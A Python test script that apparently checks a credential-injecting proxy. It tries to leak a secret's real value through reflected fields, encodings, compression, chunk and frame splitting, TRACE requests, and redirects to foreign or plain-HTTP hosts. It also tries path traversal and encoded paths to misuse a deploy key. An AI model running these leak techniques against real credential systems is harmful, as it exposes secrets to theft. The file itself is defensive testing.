"""Ways to a secret's value for somebody who has its placeholder. Everything that comes back is shown; the value must not be in it."""
import base64, gzip, os, subprocess, sys, tempfile, textwrap
from urllib.parse import quote
from wire import *

attempt = Attempts()
VAULT, DEPLOY, QUERY, FIELD, BASIC = (os.environ[name] for name in ('VAULT', 'DEPLOY', 'QUERY', 'FIELD', 'BASIC'))
BEARER = f'Authorization: Bearer {VAULT}'
VERSIONS = ['http1.1', 'http2']
FORMS = {
    'plain': lambda text: text,
    'base64': lambda text: base64.b64encode(f'xy{text}'.encode()).decode(),
    'percent': lambda text: ''.join(f'%{ord(one):02x}' for one in text),
    'json': lambda text: ''.join(f'\\u{ord(one):04x}' for one in text),
    'nested': lambda text: ''.join(f'\\\\u{ord(one):04x}' for one in text),
    'lines': lambda text: '\\n'.join(textwrap.wrap(base64.b64encode(text.encode()).decode(), 20)),
}


def quoted(text):
    return '"' + text.replace('\\', '\\\\').replace('"', '\\"') + '"'


def ask_all(version, requests):
    """Requests of one curl over one connection: heads and bodies as they came. A request is a URL and pairs of options."""
    with tempfile.TemporaryDirectory() as folder:
        parts = []
        for number, (url, *options) in enumerate(requests):
            lines = [version, 'include', 'path-as-is', 'max-time = 30', f'output = "{folder}/{number}"', f'url = {quoted(url)}']
            parts.append('\n'.join(lines + [f'{key} = {quoted(value)}' if value else key for key, value in options]))
        config = '\nnext\n'.join(parts)
        run = subprocess.run(['curl', '-sS', '-K', '-'], input=config, capture_output=True, text=True)
        answers = []
        for number in range(len(requests)):
            try: answers.append(open(f'{folder}/{number}', 'rb').read().decode('latin1'))
            except OSError: answers.append(f'curl {run.returncode}: {run.stderr}')
        return answers


def over_both(requests):
    return [answer for version in VERSIONS for answer in ask_all(version, requests)]


def echo(path='echo', **query):
    return f'https://vault.example/{path}?' + '&'.join(f'{key}={quote(value)}' for key, value in query.items())


PLACES = ['body', 'header', 'cookie', 'location', 'etag', 'origin', 'reason', 'trailers', 'error', 'name']


@attempt('reflection through every field')
def reflected():
    return over_both([(echo(place=place, form=form), ('header', BEARER)) for place in PLACES for form in FORMS])


@attempt('gzip, br, zstd, split across writes, chunks and frames')
def packed():
    packings = ['', 'gzip', 'br', 'zstd', 'deflate', 'gzip, br']
    return over_both([(echo(place='body', form='plain', pack=pack, cut=cut), ('header', BEARER)) for pack in packings for cut in ('1', '7', '0')])


@attempt('stored content, then GET')
def stored():
    read = [(echo('stored', place=place, form=form),) for place in ('body', 'header', 'trailers') for form in FORMS]
    return over_both([(echo('store'), ('header', BEARER), ('data', 'an issue')), *read])


@attempt('reflection of every placement')
def every_placement():
    return over_both([
        (echo(place='body', form='plain'), ('user', f'me:{BASIC}')),
        (echo(place='body', form='base64'), ('user', f'me:{BASIC}')),
        (echo(place='body', form='plain', key=QUERY),),
        (echo(place='location', form='percent', key=QUERY),),
        (echo(place='body', form='json'), ('header', 'content-type: application/json'), ('data', f'{{"auth": {{"token": "{FIELD}"}}}}')),
    ])


@attempt('a placeholder in any other place')
def misplaced():
    requests = []
    for form in FORMS.values():
        text = form(VAULT)
        requests += [
            (echo(), ('header', f'X-Other: {text}')), (echo(), ('user-agent', text)), (echo(), ('header', f'Origin: https://{text}')),
            (echo(), ('referer', text)), (echo(), ('cookie', f'session={text}')), (echo(), ('data', f'title={text}')),
            (echo(), ('header', f'Authorization: Bearer {text}, x')), (echo(), ('header', f'Authorization: Digest response="{text}"')),
        ]
    for form in ('plain', 'base64', 'percent'):
        text = FORMS[form](VAULT)
        requests += [(f'https://vault.example/echo?other={text}',), (f'https://vault.example/echo/{text}',)]
    requests += [(echo(), ('header', f'{VAULT}: 1')), (echo(), ('header', BEARER), ('header', f'X-Other: {VAULT}')), (echo(), ('user', f'me:{VAULT}'))]
    return over_both(requests)


@attempt('a placeholder in any other place')
def misplaced_packed():
    with tempfile.NamedTemporaryFile() as file:
        file.write(gzip.compress(b'filler ' * 5000 + VAULT.encode()))
        file.flush()
        return over_both([(echo(), ('header', 'content-encoding: gzip'), ('data-binary', f'@{file.name}'))])


@attempt('a placeholder split across chunks and frames')
def split():
    body = f'a comment with {VAULT} in it'.encode()
    chunks = b''.join(b'1\r\n' + bytes([byte]) + b'\r\n' for byte in body) + b'0\r\n\r\n'
    trailers = f'1\r\nx\r\n0\r\nX-Trailer: {VAULT}\r\n\r\n'.encode()
    post = b'POST /echo HTTP/1.1\r\nHost: vault.example\r\nTransfer-Encoding: chunked\r\n\r\n'
    head = request_headers(b'vault.example', b'/echo', b'POST')
    frames = [frame(DATA, 0, 1, bytes([byte])) for byte in body]
    trailing = frame(HEADERS, END_HEADERS | END_STREAM, 1, literals([(b'x-trailer', VAULT.encode())]))
    return [
        talk_tls('vault.example', 443, post + chunks),
        talk_tls('vault.example', 443, post + trailers),
        talk_http2('vault.example', 443, frame(HEADERS, END_HEADERS, 1, head), *frames, frame(DATA, END_STREAM, 1)),
        talk_http2('vault.example', 443, frame(HEADERS, END_HEADERS, 1, head), frame(DATA, 0, 1, b'x'), trailing),
    ]


@attempt('TRACE and TRACK')
def traced():
    return over_both([(echo(), ('request', method), ('header', BEARER)) for method in ('TRACE', 'TRACK')])


@attempt('placeholder to another host, over plain HTTP, of A at the host of B')
def elsewhere():
    return over_both([
        ('https://other.example/echo', ('header', BEARER)),
        ('http://vault.example/echo', ('header', BEARER)),
        ('http://allowed.example/echo', ('header', BEARER)),
        ('https://rules.example/open/a', ('header', BEARER)),
        ('https://stranger.example/', ('header', BEARER)),
    ])


@attempt('redirect to another host after injection')
def redirected():
    ways = ['https://other.example/echo', 'http://vault.example/echo', 'https://stranger.example/', 'http://allowed.example/echo']
    return over_both([(f'https://vault.example/redirect?to={quote(way)}', ('header', BEARER), ('location', ''), ('location-trusted', '')) for way in ways])


@attempt('use for a different purpose at the right host')
def other_purposes():
    key = ('header', f'X-Deploy-Key: {DEPLOY}')
    repository = 'https://vault.example/repos/me/app'
    return over_both([
        (repository, ('request', 'DELETE'), key),
        (f'{repository}/git-receive-pack', ('request', 'PUT'), key),
        (f'{repository}/git-receive-pack/../../admin', ('request', 'POST'), key),
        (f'{repository}/%67it-receive-pack', ('request', 'POST'), key),
        ('https://vault.example/user/keys', ('request', 'POST'), key, ('data', 'x')),
    ])


@attempt('the purpose that it is for')
def purpose():
    return over_both([('https://vault.example/repos/me/app/git-receive-pack', ('request', 'POST'), ('header', f'X-Deploy-Key: {DEPLOY}'), ('data', 'x'))])


attempt.run()
